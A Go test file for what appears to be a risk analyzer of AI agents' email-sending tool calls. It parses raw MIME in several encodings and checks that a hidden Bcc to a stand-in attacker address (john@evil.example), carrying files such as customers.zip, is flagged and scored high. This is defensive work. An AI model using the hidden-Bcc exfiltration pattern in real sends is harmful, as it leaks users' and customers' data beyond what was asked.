package tools

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
)

// mimeWith is a multipart message from these headers with one attachment.
func mimeWith(headers, attachment string) string {
	return headers + "Subject: =?utf-8?q?Quarterly_report?=\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"B1\"\r\n\r\n" +
		"--B1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nHere it is=2E\r\n" +
		"--B1\r\nContent-Type: application/zip\r\nContent-Disposition: attachment; " + attachment + "\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\nUEsDBA==\r\n--B1--\r\n"
}

// A raw message is judged on the recipients and attachments inside it,
// whatever its encoding and wherever the tool keeps it.
func TestRawMessageRead(t *testing.T) {
	msg := mimeWith("From: me@acme-ltd.example\r\nTo: \"Smith, Alice\" <alice@acme-ltd.example>\r\nCc: bob@acme-ltd.example\r\nBcc: =?utf-8?b?RG9lLCBKb2hu?= <john@evil.example>\r\n",
		`filename="customers.zip"`)
	wantTo := []string{`"Smith, Alice" <alice@acme-ltd.example>`, "bob@acme-ltd.example", `"Doe, John" <john@evil.example>`}
	folded := base64.StdEncoding.EncodeToString([]byte(msg))
	for i := 76; i < len(folded); i += 78 {
		folded = folded[:i] + "\r\n" + folded[i:]
	}
	cases := []struct {
		name, tool string
		input      map[string]any
	}{
		{"gmail raw", "mcp__gmail__send_message", map[string]any{"raw": base64.URLEncoding.EncodeToString([]byte(msg))}},
		{"gmail raw unpadded", "gmail_send", map[string]any{"message": map[string]any{"raw": base64.RawURLEncoding.EncodeToString([]byte(msg))}}},
		{"ses raw", "ses_send_raw_email", map[string]any{"RawMessage": map[string]any{"Data": base64.StdEncoding.EncodeToString([]byte(msg))}}},
		{"folded base64", "send_email", map[string]any{"raw_message": folded}},
		{"plain mime", "send_email", map[string]any{"mime": msg}},
	}
	for _, c := range cases {
		res := Analyze(c.tool, c.input, Options{})
		if !slices.Equal(res.Recipients, wantTo) {
			t.Errorf("%s: recipients %q, want %q", c.name, res.Recipients, wantTo)
		}
		p := Prepare(c.tool, c.input)
		if !slices.Contains(p.a.attachments, "customers.zip") {
			t.Errorf("%s: attachments %q, want customers.zip", c.name, p.a.attachments)
		}
		if res.Partial {
			t.Errorf("%s: a message read whole is partial", c.name)
		}
	}
}

// Attachment names in every spelling MIME has, and a forwarded message.
func TestRawMessageAttachmentNames(t *testing.T) {
	for _, c := range []struct{ disposition, want string }{
		{`filename="a b.pdf"`, "a b.pdf"},
		{`filename*=UTF-8''r%C3%A9sum%C3%A9.pdf`, "résumé.pdf"},
		{`filename="=?utf-8?b?cGF5cm9sbC54bHN4?="`, "payroll.xlsx"},
	} {
		m, ok := rawMessage(mimeWith("To: a@x.example\r\n", c.disposition))
		if !ok || !slices.Contains(m.attachments, c.want) {
			t.Errorf("%s: attachments %q (read %v), want %q", c.disposition, m.attachments, ok, c.want)
		}
	}
	fwd := "To: a@x.example\r\nContent-Type: message/rfc822\r\n\r\n" + mimeWith("To: b@y.example\r\n", `filename="inner.csv"`)
	if m, ok := rawMessage(fwd); !ok || !slices.Contains(m.attachments, "inner.csv") {
		t.Errorf("a forwarded message's attachment is not read: %q", m.attachments)
	}
}

// What cannot be read whole says so: the call may reach others.
func TestRawMessagePartial(t *testing.T) {
	msg := mimeWith("To: alice@acme-ltd.example\r\n", `filename="x.zip"`)
	big := strings.Replace(msg, "Here it is=2E", strings.Repeat("x", maxRawMessage), 1)
	cases := map[string]map[string]any{
		"not base64":          {"raw": "%%%% not a message %%%%"},
		"not a message":       {"raw": base64.URLEncoding.EncodeToString([]byte("just some bytes, no headers"))},
		"past the bound":      {"raw": base64.URLEncoding.EncodeToString([]byte(big))},
		"unclosed multipart":  {"raw": base64.URLEncoding.EncodeToString([]byte(strings.TrimSuffix(msg, "--B1--\r\n")[:len(msg)-40]))},
		"no boundary":         {"raw": base64.URLEncoding.EncodeToString([]byte("To: a@x.example\r\nContent-Type: multipart/mixed\r\n\r\nx"))},
		"too many parts deep": {"raw": base64.URLEncoding.EncodeToString([]byte(nested(maxMIMEDepth + 2)))},
	}
	for name, in := range cases {
		if res := Analyze("gmail_send_message", in, Options{}); !res.Partial {
			t.Errorf("%s: not partial (recipients %q)", name, res.Recipients)
		}
	}
	if res := Analyze("gmail_send_message", map[string]any{"raw": base64.URLEncoding.EncodeToString([]byte(msg))}, Options{}); res.Partial {
		t.Errorf("a whole message is partial")
	}
}

// nested is a message with multiparts n deep.
func nested(n int) string {
	s := "To: a@x.example\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n"
	for i := 0; i < n; i++ {
		s += "--b" + string(rune('0'+i)) + "\r\nContent-Type: multipart/mixed; boundary=b" + string(rune('1'+i)) + "\r\n\r\n"
	}
	return s
}

// A raw message to the recipient the user named and to another is not
// a low-risk send; the named one alone is judged as it would be in "to".
func TestRawMessageJudged(t *testing.T) {
	user := Options{UserMessages: []string{"email the quarterly report to alice@acme-ltd.example"}}
	two := mimeWith("To: alice@acme-ltd.example\r\nBcc: john@evil.example\r\n", `filename="report.pdf"`)
	one := mimeWith("To: alice@acme-ltd.example\r\n", `filename="report.pdf"`)
	bad := Analyze("gmail_send_message", map[string]any{"raw": base64.URLEncoding.EncodeToString([]byte(two))}, user)
	good := Analyze("gmail_send_message", map[string]any{"raw": base64.URLEncoding.EncodeToString([]byte(one))}, user)
	plain := Analyze("gmail_send_message", map[string]any{"to": "alice@acme-ltd.example", "subject": "Quarterly report", "body": "Here it is.", "attachments": []any{"report.pdf"}}, user)
	if bad.Score <= good.Score {
		t.Errorf("a hidden Bcc scores %d, the named recipient alone %d", bad.Score, good.Score)
	}
	if good.Grade != plain.Grade {
		t.Errorf("the same send as raw MIME is graded %s, as arguments %s", good.Grade, plain.Grade)
	}
}

// FuzzRawMessage feeds raw messages: reading never panics, keeps within
// its bounds, and never returns an empty recipient.
func FuzzRawMessage(f *testing.F) {
	f.Add(mimeWith("To: \"Doe, John\" <j@e.example>\r\nBcc: x@y.example\r\n", `filename="a.zip"`))
	f.Add(base64.URLEncoding.EncodeToString([]byte(mimeWith("To: a@b.example\r\n", `filename*=UTF-8''%C3%A9.pdf`))))
	f.Add("To: a@x.example\r\nContent-Type: message/rfc822\r\n\r\nTo: b@y.example\r\n\r\nhi")
	f.Add(nested(6))
	f.Add("To: =?utf-8?q?broken <a@b>\r\n\r\n")
	f.Fuzz(func(t *testing.T, s string) {
		m, ok := rawMessage(s)
		if !ok {
			return
		}
		for _, r := range m.recipients {
			if strings.TrimSpace(r) == "" {
				t.Fatalf("an empty recipient from %q", s)
			}
		}
		if len(m.attachments) > maxMIMEParts {
			t.Fatalf("%d attachments kept", len(m.attachments))
		}
	})
}

func base64URL(s string) string { return base64.URLEncoding.EncodeToString([]byte(s)) }

// A send whose raw message cannot be read names no recipient the user
// could have named: it needs approval, whatever the user asked.
func TestRawMessageUnreadHeld(t *testing.T) {
	user := Options{UserMessages: []string{"email the quarterly report to alice@acme-ltd.example"}}
	for _, raw := range []string{"%%%% not base64 %%%%", base64URL("no headers at all, alice@acme-ltd.example")} {
		if r := Analyze("gmail_send_message", map[string]any{"raw": raw}, user); r.Grade != GradeHigh {
			t.Errorf("raw %q: grade %s (%s), want high", raw, r.Grade, r.Why)
		}
	}
}
